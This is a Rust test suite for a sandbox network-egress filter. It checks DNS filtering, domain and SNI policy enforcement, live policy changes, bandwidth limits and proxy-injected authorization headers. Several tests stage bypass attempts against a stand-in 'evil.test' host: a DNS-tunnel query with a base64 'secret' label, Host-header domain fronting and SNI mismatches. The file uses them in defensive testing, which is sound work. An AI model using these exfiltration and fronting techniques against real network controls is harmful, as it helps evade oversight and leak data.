//! The egress layer end to end in a private lab (three fresh network namespaces, the
//! real rules file, the real resolver and proxy): what a sandbox's DNS questions and
//! connections meet, including the bypass attempts. Needs root; says so and passes
//! otherwise (CI runs as root).

// Tests: a failed unwrap or expect is a failed test (clippy.toml allows them only in #[test] fns).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use cubicle_egress::lab::{
    EVIL_HOST, Lab, OK_HOST, exchange, http_get, keep_alive, query_a, tls_finish, tls_open,
    tls_stream,
};
use cubicle_egress::{EventKind, NetworkPolicy, Verdict};

fn is_root() -> bool {
    cubicle_syscalls::is_root()
}

fn policy(allow: &[&str], deny: &[&str]) -> NetworkPolicy {
    NetworkPolicy {
        allow_out: allow.iter().map(|s| s.parse().unwrap()).collect(),
        deny_out: deny.iter().map(|s| s.parse().unwrap()).collect(),
        ..Default::default()
    }
}

/// A refusal by the rules: an error that arrives at once (not a timeout).
fn assert_refused<T: std::fmt::Debug>(
    what: &str,
    t: Instant,
    r: Result<T, impl std::fmt::Display>,
) {
    match r {
        Ok(v) => panic!("{what}: expected a refusal, got {v:?}"),
        Err(e) => assert!(
            t.elapsed() < Duration::from_millis(1500),
            "{what}: refused only after {:?} ({e}): a timeout is not the rule answering",
            t.elapsed()
        ),
    }
}

#[test]
fn domains_dns_and_bypasses() {
    if !is_root() {
        eprintln!("SKIPPED: needs root (creates network namespaces and nftables tables)");
        return;
    }
    Lab::run(|lab| {
        let p = policy(&["ok.test", "*.ok.test"], &["0.0.0.0/0"]);
        lab.add_sandbox(1, &p).unwrap();
        let open = lab.add_sandbox(2, &NetworkPolicy::default()).unwrap();
        let _ = open;
        let web = |ip| SocketAddr::from((ip, 80));

        // DNS: allowed names resolve through the sandbox's upstream, whatever server it asks.
        let r = lab
            .in_sandbox(1, || query_a("9.9.9.9".parse().unwrap(), "ok.test"))
            .unwrap();
        assert_eq!(r, Ok(vec![OK_HOST]));
        // A name outside the policy is refused without being forwarded (no DNS tunnel).
        let r = lab
            .in_sandbox(1, || query_a(OK_HOST, "c2VjcmV0.evil.test"))
            .unwrap();
        assert_eq!(r, Err("REFUSED".to_string()));
        let asked = lab.upstream_questions.lock().unwrap().clone();
        assert!(asked.iter().any(|q| q == "ok.test"), "{asked:?}");
        assert!(
            !asked.iter().any(|q| q.contains("c2vjcmv0")),
            "the refused question reached the upstream server: {asked:?}"
        );

        // HTTP to an allowed name at its address: through.
        let body = lab
            .in_sandbox(1, || http_get(web(OK_HOST), "ok.test"))
            .unwrap();
        assert_eq!(body.unwrap(), OK_HOST.to_string());
        // An allowed name at another address (hard-coded IP, mismatched Host): reset.
        let t = Instant::now();
        let r = lab
            .in_sandbox(1, || http_get(web(EVIL_HOST), "ok.test"))
            .unwrap();
        assert_refused("Host ok.test at evil's address", t, r);
        // A denied name at the allowed address (domain fronting by Host): reset.
        let t = Instant::now();
        let r = lab
            .in_sandbox(1, || http_get(web(OK_HOST), "evil.test"))
            .unwrap();
        assert_refused("Host evil.test at ok's address", t, r);
        // Every request of a kept-alive plain-HTTP connection is checked: a second
        // request for another name on the allowed address cuts the connection.
        let bodies = lab
            .in_sandbox(1, || keep_alive(web(OK_HOST), &["ok.test", "www.ok.test", "evil.test", "ok.test"]))
            .unwrap()
            .unwrap();
        assert_eq!(bodies, vec![OK_HOST.to_string(), OK_HOST.to_string()]);
        // TLS: SNI checked the same way.
        let n = lab
            .in_sandbox(1, || tls_stream(OK_HOST, "www.ok.test", 1000))
            .unwrap();
        assert!(n.unwrap() >= 1000);
        let t = Instant::now();
        let r = lab
            .in_sandbox(1, || tls_stream(EVIL_HOST, "www.ok.test", 10))
            .unwrap();
        assert_refused("SNI www.ok.test at evil's address", t, r);
        // Another port, no name at all, to a hard-coded address: denied by the kernel
        // (UDP) or reset by the proxy (TCP).
        let t = Instant::now();
        let r = lab
            .in_sandbox(1, || {
                std::net::TcpStream::connect_timeout(
                    &SocketAddr::from((EVIL_HOST, 22)),
                    Duration::from_secs(3),
                )
                .and_then(|mut s| {
                    use std::io::Read;
                    let mut b = [0u8; 1];
                    s.set_read_timeout(Some(Duration::from_secs(3)))?;
                    s.read(&mut b).map(|n| n as u64)
                })
            })
            .unwrap();
        match r {
            Ok(0) | Err(_) => assert!(
                t.elapsed() < Duration::from_millis(1500),
                "took {:?}",
                t.elapsed()
            ),
            Ok(n) => panic!("read {n} bytes from a denied destination"),
        }

        // The sandbox without a policy reaches everything public.
        let body = lab
            .in_sandbox(2, || http_get(web(EVIL_HOST), "evil.test"))
            .unwrap();
        assert_eq!(body.unwrap(), EVIL_HOST.to_string());
        // ...but not a private range (refused by the kernel's node rules).
        let t = Instant::now();
        let r = lab
            .in_sandbox(2, || {
                std::net::TcpStream::connect_timeout(
                    &SocketAddr::from(([10, 1, 2, 3], 80)),
                    Duration::from_secs(3),
                )
            })
            .unwrap();
        assert_refused("a private address", t, r);
        // UDP from the domain-policy sandbox to a hard-coded address: the kernel refuses.
        let _ = lab.in_sandbox(1, || {
            let s = std::net::UdpSocket::bind("0.0.0.0:0")?;
            s.send_to(b"x", (EVIL_HOST, 443))
        });
        // Connections the kernel let through or refused are in the trail too.
        let wait_for = |slot: u32, want: &dyn Fn(&cubicle_egress::NetEvent) -> bool| {
            let deadline = Instant::now() + Duration::from_secs(5);
            loop {
                let events = lab.egress.audit().read(&Lab::id(slot), 0, 10_000);
                if events.iter().any(want) || Instant::now() > deadline {
                    return events.iter().map(|e| e.summary()).collect::<Vec<_>>();
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        };
        let s = wait_for(2, &|e| {
            matches!(&e.what, EventKind::Close { dst, bytes_in, .. } if *dst == EVIL_HOST && *bytes_in > 0)
        });
        assert!(
            s.iter()
                .any(|l| l.contains("tcp 198.51.100.3:80 allowed via direct")),
            "{s:#?}"
        );
        assert!(s.iter().any(|l| l.contains("198.51.100.3:80 closed")), "{s:#?}");
        let s = wait_for(2, &|e| e.summary().contains("10.1.2.3:80"));
        assert!(
            s.iter()
                .any(|l| l.contains("10.1.2.3:80 denied") && l.contains("private range")),
            "{s:#?}"
        );
        let s = wait_for(1, &|e| e.summary().contains("udp 198.51.100.3:443"));
        assert!(
            s.iter().any(|l| l.contains("udp 198.51.100.3:443 denied")
                && l.contains("denyOut 0.0.0.0/0")),
            "{s:#?}"
        );

        // The audit trail saw it all.
        let events = lab.egress.audit().read(&Lab::id(1), 0, 1000);
        let denied: Vec<String> = events
            .iter()
            .filter(|e| {
                matches!(
                    e.what,
                    EventKind::Connect {
                        verdict: Verdict::Denied,
                        ..
                    } | EventKind::Dns {
                        verdict: Verdict::Denied,
                        ..
                    }
                )
            })
            .map(|e| e.summary())
            .collect();
        assert!(
            denied.iter().any(|s| s.contains("c2vjcmv0.evil.test")),
            "{denied:#?}"
        );
        assert!(
            denied
                .iter()
                .any(|s| s.contains("198.51.100.3:80 (ok.test)")),
            "{denied:#?}"
        );
        assert!(
            events.iter().any(
                |e| matches!(&e.what, EventKind::Close { bytes_out, .. } if *bytes_out >= 1000)
            ),
            "no close event with bytes"
        );

        // A live update: now evil.test too, without touching the first connection.
        lab.set_policy(1, &policy(&["ok.test", "evil.test"], &["0.0.0.0/0"]))
            .unwrap();
        let body = lab
            .in_sandbox(1, || http_get(web(EVIL_HOST), "evil.test"))
            .unwrap();
        assert_eq!(body.unwrap(), EVIL_HOST.to_string());
        lab.remove_sandbox(1).unwrap();
        lab.remove_sandbox(2).unwrap();
    })
    .unwrap();
}

/// Waits up to three seconds for the proxy to relay `n` connections.
fn wait_relayed(lab: &Lab, n: usize) {
    let t = Instant::now();
    while lab.egress.relayed() != n {
        assert!(
            t.elapsed() < Duration::from_secs(3),
            "the proxy relays {} connections, not {n}",
            lab.egress.relayed()
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// A policy change cuts the proxied connections the new policy refuses (their client is
/// reset; the trail says why) and leaves the others; a sandbox's end cuts all of its own.
#[test]
fn policy_changes_cut_the_proxied_connections_they_refuse() {
    if !is_root() {
        eprintln!("SKIPPED: needs root (creates network namespaces and nftables tables)");
        return;
    }
    Lab::run(|lab| {
        lab.add_sandbox(1, &policy(&["ok.test", "evil.test"], &["0.0.0.0/0"]))
            .unwrap();
        let open = |lab: &Lab, addr, sni: &'static str| {
            lab.in_sandbox(1, move || tls_open(addr, sni))
                .unwrap()
                .unwrap()
        };
        let kept = open(lab, OK_HOST, "ok.test");
        let dropped = open(lab, EVIL_HOST, "evil.test");
        wait_relayed(lab, 2);
        // evil.test leaves the policy: its connection is reset, ok.test's goes on.
        lab.set_policy(1, &policy(&["ok.test"], &["0.0.0.0/0"]))
            .unwrap();
        wait_relayed(lab, 1);
        let t = Instant::now();
        assert_refused(
            "the connection to evil.test after the update",
            t,
            tls_finish(dropped, 1 << 20),
        );
        let hello = cubicle_egress::lab::client_hello("ok.test").len() as u64;
        assert_eq!(tls_finish(kept, 1 << 20).unwrap(), hello + (1 << 20));
        let events = lab.egress.audit().read(&Lab::id(1), 0, 1000);
        let cuts: Vec<String> = events
            .iter()
            .map(|e| e.summary())
            .filter(|s| s.contains("cut by a policy change"))
            .collect();
        // Its refusal, then its close (bytes so far, the reason).
        assert!(
            cuts.len() == 2
                && cuts[0].contains("198.51.100.3:443 (evil.test) denied")
                && cuts[1].contains("198.51.100.3:443 (evil.test) closed"),
            "{cuts:#?}"
        );

        // A change that refuses nothing the connection does (a new name allowed) leaves
        // it; internet off cuts it.
        let conn = open(lab, OK_HOST, "ok.test");
        wait_relayed(lab, 1);
        lab.set_policy(1, &policy(&["ok.test", "www.ok.test"], &["0.0.0.0/0"]))
            .unwrap();
        lab.set_policy(1, &policy(&[], &["0.0.0.0/0"])).unwrap();
        wait_relayed(lab, 0);
        assert_refused(
            "the connection after internet off",
            Instant::now(),
            tls_finish(conn, 1 << 20),
        );

        // The sandbox's end cuts what the proxy still relays for it.
        lab.set_policy(1, &policy(&["ok.test"], &["0.0.0.0/0"]))
            .unwrap();
        let conn = open(lab, OK_HOST, "ok.test");
        wait_relayed(lab, 1);
        lab.remove_sandbox(1).unwrap();
        wait_relayed(lab, 0);
        drop(conn);
    })
    .unwrap();
}

/// A connection that names nothing (no SNI, no Host) is let through to an address the
/// resolver handed out for an allowed name; a later policy change judges it with what
/// its open learned, not with the name table, which forgets answers (ten minutes at
/// least after them) while the connection may last longer: a change that still allows
/// the name keeps it, one that drops the name cuts it.
#[test]
fn policy_changes_judge_with_what_the_connection_learned() {
    if !is_root() {
        eprintln!("SKIPPED: needs root (creates network namespaces and nftables tables)");
        return;
    }
    Lab::run(|lab| {
        lab.add_sandbox(1, &policy(&["ok.test"], &["0.0.0.0/0"]))
            .unwrap();
        // No name in its first bytes: only the resolver's answer lets it through.
        let open = |lab: &Lab| {
            lab.in_sandbox(1, || {
                let mut s = std::net::TcpStream::connect_timeout(
                    &SocketAddr::from((OK_HOST, 443)),
                    Duration::from_secs(3),
                )?;
                s.set_read_timeout(Some(Duration::from_secs(30)))?;
                std::io::Write::write_all(&mut s, b"\x00\x01 no name")?;
                Ok::<_, std::io::Error>(s)
            })
            .unwrap()
        };
        let t = Instant::now();
        assert_refused(
            "a nameless connection before any answer",
            t,
            open(lab).and_then(|s| tls_finish(s, 10)),
        );
        let r = lab
            .in_sandbox(1, || query_a("9.9.9.9".parse().unwrap(), "ok.test"))
            .unwrap();
        assert_eq!(r, Ok(vec![OK_HOST]));
        let conn = open(lab).unwrap();
        wait_relayed(lab, 1);
        // The answer expires; a change that still allows ok.test leaves the connection.
        lab.forget_names(1);
        lab.set_policy(1, &policy(&["ok.test", "other.test"], &["0.0.0.0/0"]))
            .unwrap();
        std::thread::sleep(Duration::from_millis(200));
        assert_eq!(
            lab.egress.relayed(),
            1,
            "cut although its name is still allowed"
        );
        // A change that drops ok.test cuts it, the answer long forgotten.
        lab.set_policy(1, &policy(&["other.test"], &["0.0.0.0/0"]))
            .unwrap();
        wait_relayed(lab, 0);
        assert_refused(
            "the nameless connection after ok.test left the policy",
            Instant::now(),
            tls_finish(conn, 1 << 20),
        );
    })
    .unwrap();
}

/// The bench runs (small sizes; `cubicle bench egress` prints the real figures).
#[test]
fn bench_runs() {
    if !is_root() {
        eprintln!("SKIPPED: needs root");
        return;
    }
    let r = cubicle_egress::lab::bench(8 << 20, 20).unwrap();
    assert!(r.proxied_gbit_s > 0.0 && r.direct_gbit_s > 0.0, "{r:?}");
    assert!(
        r.proxied_request_us.0 > 0 && r.apply_policy_us.0 > 0,
        "{r:?}"
    );
    eprintln!("{r:?}");
}

/// The per-sandbox bandwidth limit holds (direct and proxied traffic).
#[test]
fn bandwidth_limit_holds() {
    if !is_root() {
        eprintln!("SKIPPED: needs root");
        return;
    }
    let rate = 12_500_000u64; // 100 Mbit/s
    Lab::run_with(
        |c| {
            c.limits.bytes_per_sec = rate;
            c.limits.bytes_burst = 1 << 20;
        },
        |lab| {
            lab.add_sandbox(1, &NetworkPolicy::default()).unwrap();
            let bytes = 3 * rate;
            let (n, took) = lab
                .in_sandbox(1, || {
                    let t = Instant::now();
                    tls_stream(OK_HOST, "ok.test", bytes).map(|n| (n, t.elapsed()))
                })
                .unwrap()
                .unwrap();
            let got = n as f64 / took.as_secs_f64();
            eprintln!(
                "{:.1} MB/s with a limit of {:.1} MB/s",
                got / 1e6,
                rate as f64 / 1e6
            );
            // The kernel's bucket holds one second at the rate plus the burst.
            let most = rate as f64 * (took.as_secs_f64() + 1.0) + (1 << 20) as f64;
            assert!(
                (n as f64) < most * 1.05,
                "{n} bytes in {took:?} over a limit of {rate} B/s"
            );
            assert!(got > rate as f64 * 0.5, "{got} B/s: far below the limit");
        },
    )
    .unwrap();
}

/// Secret values for the header-rule test: `k` of the sandbox on slot 1 only.
struct Secrets;

impl cubicle_egress::SecretSource for Secrets {
    fn secret(&self, sandbox: &str, name: &str) -> Option<zeroize::Zeroizing<Vec<u8>>> {
        (sandbox == Lab::id(1) && name == "k")
            .then(|| zeroize::Zeroizing::new(b"s3cr3t-v4lue".to_vec()))
    }
}

fn rules(host: &str, value: &str) -> std::collections::BTreeMap<String, Vec<cubicle_egress::Rule>> {
    let t = cubicle_egress::Transform {
        headers: [("Authorization".to_string(), value.to_string())].into(),
    };
    [(
        host.to_string(),
        vec![cubicle_egress::Rule { transform: Some(t) }],
    )]
    .into()
}

#[test]
fn header_rules_inject_secrets_over_http_and_https() {
    use cubicle_egress::lab::{HTTPS_ECHO_PORT, https_keep_alive, keep_alive_paths};
    if !is_root() {
        eprintln!("SKIPPED: needs root (creates network namespaces and nftables tables)");
        return;
    }
    Lab::run(|lab| {
        lab.egress.set_secret_source(std::sync::Arc::new(Secrets));
        let p = NetworkPolicy {
            rules: rules("ok.test", "Bearer ${e2b.secrets.k}"),
            ..Default::default()
        };
        lab.add_sandbox(1, &p).unwrap();
        let want = "Authorization: Bearer s3cr3t-v4lue";
        let http = SocketAddr::from((OK_HOST, 80));
        let https = SocketAddr::from((OK_HOST, HTTPS_ECHO_PORT));

        // Plain HTTP: every request of a kept-alive connection gets the header (the
        // sandbox's own value is overridden).
        let r = lab
            .in_sandbox(1, move || keep_alive_paths(http, &[("ok.test", "/echo"), ("ok.test", "/echo")]))
            .unwrap()
            .unwrap();
        assert_eq!(r.len(), 2, "{r:?}");
        assert!(r.iter().all(|b| b.contains(want)), "{r:?}");
        // A forged Host at another address gets nothing injected.
        let evil = SocketAddr::from((EVIL_HOST, 80));
        let r = lab
            .in_sandbox(1, move || keep_alive_paths(evil, &[("ok.test", "/echo")]))
            .unwrap()
            .unwrap();
        assert!(r.iter().all(|b| !b.contains("s3cr3t")), "{r:?}");
        // A rule changed while a connection is kept alive applies from its next request.
        let mut conn = lab
            .in_sandbox(1, move || std::net::TcpStream::connect_timeout(&http, Duration::from_secs(3)))
            .unwrap()
            .unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let r = exchange(&mut conn, &[("ok.test", "/echo")]);
        assert!(r.len() == 1 && r[0].contains(want), "{r:?}");
        let rotated = NetworkPolicy {
            rules: rules("ok.test", "Rotated ${e2b.secrets.k}"),
            ..Default::default()
        };
        lab.set_policy(1, &rotated).unwrap();
        let r = exchange(&mut conn, &[("ok.test", "/echo")]);
        assert!(r.len() == 1 && r[0].contains("Authorization: Rotated s3cr3t-v4lue"), "{r:?}");
        drop(conn);
        lab.set_policy(1, &p).unwrap();

        // HTTPS: the proxy terminates TLS with the node's CA (the client trusts only
        // it), verifies ok.test against the lab's roots, and rewrites every request.
        let ca = lab.egress.ca_pem().expect("the lab node has an interception CA");
        let ca2 = ca.clone();
        let r = lab
            .in_sandbox(1, move || https_keep_alive(https, "ok.test", &ca2, &[("ok.test", "/echo"), ("ok.test", "/echo")]))
            .unwrap()
            .unwrap();
        assert_eq!(r.len(), 2, "{r:?}");
        assert!(r.iter().all(|b| b.contains(want)), "{r:?}");
        // Without the node's CA the client refuses the proxy's certificate.
        let lab_ca = lab.internet_ca.clone();
        let r = lab
            .in_sandbox(1, move || https_keep_alive(https, "ok.test", &lab_ca, &[("ok.test", "/echo")]))
            .unwrap();
        assert!(r.is_err(), "{r:?}");

        // A sandbox without rules: the same HTTPS is a blind pipe (the client sees the
        // real server's certificate), nothing injected.
        let plain = NetworkPolicy {
            allow_out: vec!["ok.test".parse().unwrap()],
            deny_out: vec!["0.0.0.0/0".parse().unwrap()],
            ..Default::default()
        };
        lab.add_sandbox(2, &plain).unwrap();
        let lab_ca = lab.internet_ca.clone();
        let r = lab
            .in_sandbox(2, move || https_keep_alive(https, "ok.test", &lab_ca, &[("ok.test", "/echo")]))
            .unwrap()
            .unwrap();
        assert!(r.len() == 1 && !r[0].contains("Authorization"), "{r:?}");

        // Added latency: a new connection + one request, intercepted (slot 1) against
        // the blind pipe through the same proxy (slot 2).
        let time = |slot: u32, ca: String| {
            lab.in_sandbox(slot, move || {
                let mut v = Vec::new();
                for _ in 0..40 {
                    let t = Instant::now();
                    let r = https_keep_alive(https, "ok.test", &ca, &[("ok.test", "/echo")]).unwrap();
                    assert_eq!(r.len(), 1);
                    v.push(t.elapsed());
                }
                v.sort();
                (v[v.len() / 2], v[v.len() * 9 / 10])
            })
            .unwrap()
        };
        let (i50, i90) = time(1, ca.clone());
        let (b50, b90) = time(2, lab.internet_ca.clone());
        eprintln!(
            "HTTPS request on a new connection: intercepted p50 {i50:?} p90 {i90:?}; blind pipe p50 {b50:?} p90 {b90:?}"
        );

        // A rule naming a secret that does not exist fails the request (not sent
        // without it), and the trail says which secret.
        lab.set_policy(1, &NetworkPolicy { rules: rules("ok.test", "${e2b.secrets.gone}"), ..Default::default() })
            .unwrap();
        let r = lab
            .in_sandbox(1, move || keep_alive_paths(http, &[("ok.test", "/echo")]))
            .unwrap()
            .unwrap();
        assert!(r.is_empty(), "{r:?}");
        let trail = std::fs::read_to_string(lab.trail_file(1)).unwrap_or_default();
        assert!(trail.contains("secret 'gone'"), "{trail}");
        assert!(!trail.contains("s3cr3t"), "the trail holds no value");
    })
    .unwrap();
}
